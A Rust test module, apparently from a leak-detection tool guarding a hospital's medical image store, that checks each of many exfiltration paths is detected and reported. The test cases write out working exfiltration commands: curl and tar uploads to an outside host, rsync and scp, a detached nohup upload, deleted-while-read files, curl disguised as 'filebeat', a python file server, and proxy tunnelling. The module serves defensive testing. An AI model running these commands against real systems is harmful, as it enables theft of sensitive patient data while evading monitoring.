//! The ways in which a store leaves: each truly done, and told by the agent on every rung.

use std::net::TcpStream;
use std::path::Path;
use std::process::Stdio;

use crate::leak::Leak;
use crate::net::{HOST_OUTSIDE, LAN, OUT, PROXY};
use crate::process::Running;
use crate::program;
use crate::wait::until;
use crate::world::{MB, World};

/// One way out.
#[derive(Debug, Clone, Copy)]
pub struct WayOut {
    /// What it is called.
    pub name: &'static str,
    /// What must be told of it.
    pub leak: Leak<'static>,
    /// How many files the store has, and how large each is.
    pub files: (usize, u64),
    /// Takes the store, and returns how many bytes arrived at the destination's interface.
    pub take: fn(&mut World, &Path) -> u64,
}

/// A leak of store `ekg` to the host on the internet.
#[must_use]
pub const fn to_out(session: &str) -> Leak<'_> {
    Leak {
        rule: "store-data-leaves",
        store: "ekg",
        session,
        destination: OUT,
        scopes: &["external"],
    }
}

/// A leak through the proxy, which has an internal address.
const fn to_proxy(session: &'static str) -> Leak<'static> {
    Leak {
        destination: PROXY,
        scopes: &["relay", "internal"],
        ..to_out(session)
    }
}

/// All of them.
pub const WAYS_OUT: &[WayOut] = &[
    WayOut {
        name: "curl of single files",
        leak: to_out("login:jagat-alice"),
        files: (150, MB),
        take: |world, store| {
            world.out_received(|world| {
                world
                    .login(
                        "jagat-alice",
                        &format!(
                            "cd {} && for f in *; do curl -sfT $f http://{OUT}/$f || exit 1; done",
                            store.display()
                        ),
                    )
                    .done(60);
                assert_eq!(world.sink.received(), 150 * MB);
            })
        },
    },
    WayOut {
        name: "tar into curl",
        leak: to_out("unit:jagat-tar.service"),
        files: (40, 5 * MB),
        take: |world, store| {
            let script = format!(
                "tar cf - {} 2>/dev/null | curl -sfT - http://{OUT}/x",
                store.display()
            );
            world.out_received(|world| world.in_unit("jagat-tar.service", &script, 60))
        },
    },
    WayOut {
        name: "staged by one login and sent by another",
        leak: to_out("login:jagat-bob"),
        files: (150, MB),
        take: |world, store| {
            let stage = world.path("stage");
            let (store, stage) = (store.display(), stage.display());
            let pack = format!("tar cf {stage}/x.tar -C {store} . && chmod 666 {stage}/x.tar");
            let send = format!(
                "mv {stage}/x.tar {stage}/holiday.avi && curl -sfT {stage}/holiday.avi http://{OUT}/"
            );
            world.out_received(|world| {
                world.login("jagat-alice", &pack).done(60);
                world.login("jagat-bob", &send).done(60);
            })
        },
    },
    WayOut {
        name: "rsync over ssh",
        leak: to_out("login:jagat-alice"),
        files: (150, MB),
        take: |world, store| {
            let copy = world.path("copy");
            let ssh = format!("ssh {}", world.logins.options(Some("jagat-alice")));
            let script = format!(
                "rsync -r -e '{ssh}' {}/ jagat-bob@{OUT}:{}/",
                store.display(),
                copy.display()
            );
            world.out_received(|world| world.login("jagat-alice", &script).done(60))
        },
    },
    WayOut {
        name: "a thousand small uploads",
        leak: to_out("unit:jagat-small.service"),
        files: (1000, 900_000),
        take: |world, store| {
            let script = format!(
                "cd {}; for f in *; do curl -sfT $f http://{OUT}/$f; done",
                store.display()
            );
            world.out_received(|world| {
                world.in_unit("jagat-small.service", &script, 120);
                assert_eq!(world.sink.received(), 900 * MB);
            })
        },
    },
    WayOut {
        name: "a leak that outlives its login",
        leak: to_out("login:jagat-alice"),
        files: (1, 150 * MB),
        take: |world, store| {
            let script = format!(
                "cd {}; nohup curl -sfT 0000.dcm --limit-rate 100M http://{OUT}/ >/dev/null 2>&1 </dev/null &",
                store.display()
            );
            world.out_received(|world| {
                world.login("jagat-alice", &script).done(30);
                until("the upload that was left behind", 30, || {
                    (world.sink.received() == 150 * MB).then_some(())
                });
            })
        },
    },
    WayOut {
        name: "files renamed and deleted while they are read",
        leak: to_out("unit:jagat-gone.service"),
        files: (2, 100 * MB),
        take: |world, store| {
            let away = world.path("away");
            let script = format!(
                "cd {}; exec 3<0000.dcm 4<0001.dcm; head -c 1000000 <&3 >/dev/null; rm 0000.dcm; mv 0001.dcm {}/innocent; \
                 cat <&3 | curl -sfT - http://{OUT}/; cat <&4 | curl -sfT - http://{OUT}/",
                store.display(),
                away.display()
            );
            world.out_received(|world| world.in_unit("jagat-gone.service", &script, 60))
        },
    },
    WayOut {
        name: "scp to a PC inside",
        leak: Leak {
            rule: "store-data-to-peer",
            destination: LAN,
            scopes: &["internal"],
            ..to_out("unit:jagat-scp.service")
        },
        files: (300, MB),
        take: |world, store| {
            let copy = world.path("copy");
            let script = format!(
                "scp -q -r {} {} jagat-bob@{LAN}:{}/",
                world.logins.options(None),
                store.display(),
                copy.display()
            );
            let before = world.net.lan.received();
            world.in_unit("jagat-scp.service", &script, 60);
            world.net.lan.received() - before
        },
    },
    WayOut {
        name: "by io_uring",
        leak: to_out("unit:jagat-put.service"),
        files: (1, 150 * MB),
        take: |world, store| put(world, store, "io_uring"),
    },
    WayOut {
        name: "by sendfile",
        leak: to_out("unit:jagat-put.service"),
        files: (1, 150 * MB),
        take: |world, store| put(world, store, "sendfile"),
    },
    WayOut {
        name: "by a tool under a harmless name",
        leak: to_out("login:jagat-alice"),
        files: (2, 75 * MB),
        take: |world, store| {
            let filebeat = world.folder().join("filebeat");
            std::fs::copy("/usr/bin/curl", &filebeat).expect("curl can be copied");
            let script = format!(
                "cd {}; for f in *; do {} -sfT $f http://{OUT}/; done",
                store.display(),
                filebeat.display()
            );
            world.out_received(|world| world.login("jagat-alice", &script).done(60))
        },
    },
    WayOut {
        name: "pulled by scp",
        leak: to_out("login:jagat-alice"),
        files: (150, MB),
        take: |world, store| {
            let from = format!("jagat-alice@{HOST_OUTSIDE}:{}", store.display());
            pulled(world, "scp", &["-q", "-r", &from])
        },
    },
    WayOut {
        name: "pulled by sftp",
        leak: to_out("login:jagat-alice"),
        files: (150, MB),
        take: |world, store| {
            let from = format!("jagat-alice@{HOST_OUTSIDE}:{}/", store.display());
            pulled(world, "sftp", &["-q", "-r", &from])
        },
    },
    WayOut {
        name: "pulled by ssh and tar",
        leak: to_out("login:jagat-alice"),
        files: (150, MB),
        take: |world, store| {
            let mut client = world.logins.client(&world.net.out, "ssh");
            client.arg(format!("jagat-alice@{HOST_OUTSIDE}"));
            client.arg(format!("tar cf - {}", store.display()));
            client.stdout(Stdio::null());
            world.out_received(|_| Running::start(&mut client).done(60))
        },
    },
    WayOut {
        name: "served by python",
        leak: Leak {
            rule: "served-in-bulk",
            ..to_out("unit:jagat-serve.service")
        },
        files: (3, 100 * MB),
        take: |world, store| {
            let script = format!(
                "exec /usr/bin/python3 -m http.server 8000 --directory {} >/dev/null 2>&1",
                store.display()
            );
            world.serve_in_unit("jagat-serve.service", &script);
            until("python to listen", 10, || {
                TcpStream::connect("127.0.0.1:8000").ok()
            });
            let url = format!("http://{HOST_OUTSIDE}:8000/000[0-2].dcm");
            let mut client = world.net.out.command("curl");
            client.args(["-sf", "-o", "/dev/null", &url]);
            world.out_received(|_| Running::start(&mut client).done(60))
        },
    },
    WayOut {
        name: "through a proxy by CONNECT",
        leak: to_proxy("unit:jagat-proxy.service"),
        files: (1, 200 * MB),
        take: |world, store| by_proxy(world, store, "--proxytunnel"),
    },
    WayOut {
        name: "through a proxy by absolute form",
        leak: to_proxy("unit:jagat-proxy.service"),
        files: (1, 200 * MB),
        take: |world, store| by_proxy(world, store, ""),
    },
];

/// Puts the store's one file by a system call of its own.
fn put(world: &mut World, store: &Path, how: &str) -> u64 {
    let program = program::beside("jaga-truth");
    let script = format!("{program} put {how} {}/0000.dcm {OUT}:80", store.display());
    world.out_received(|world| world.in_unit("jagat-put.service", &script, 60))
}

/// Pulls the store from outside, with a program and its arguments but the last, the folder that it goes to.
fn pulled(world: &mut World, program: &str, words: &[&str]) -> u64 {
    let mut client = world.logins.client(&world.net.out, program);
    client.args(words).arg(world.path("copy"));
    client.stdout(Stdio::null());
    world.out_received(|_| Running::start(&mut client).done(60))
}

/// tinyproxy on the hospital's proxy host; the way out that needs no way out.
fn by_proxy(world: &mut World, store: &Path, how: &str) -> u64 {
    let config = world.folder().join("tinyproxy.conf");
    // `Listen` on all, so that the test can see it listen from the proxy's own loopback.
    let text = "Port 3128\nTimeout 60\nMaxClients 20\nConnectPort 80\nLogLevel Critical\n";
    std::fs::write(&config, text).expect("our folder can be written");
    let mut proxy = world.net.proxy.command("tinyproxy");
    let running = Running::start(proxy.arg("-d").arg("-c").arg(&config));
    until("tinyproxy to listen", 10, || {
        let proxy = &world.net.proxy;
        proxy.inside(|| TcpStream::connect("127.0.0.1:3128").ok())
    });
    world.keep(running);
    let script = format!(
        "curl -sf {how} -x http://{PROXY}:3128 --limit-rate 60M -T {}/0000.dcm http://198.51.100.9/",
        store.display()
    );
    let before = world.net.proxy.received();
    world.in_unit("jagat-proxy.service", &script, 60);
    assert_eq!(world.sink.received(), 200 * MB);
    // What the proxy received from inside; the acknowledgements it gets from outside carry nothing.
    world.net.proxy.received() - before
}
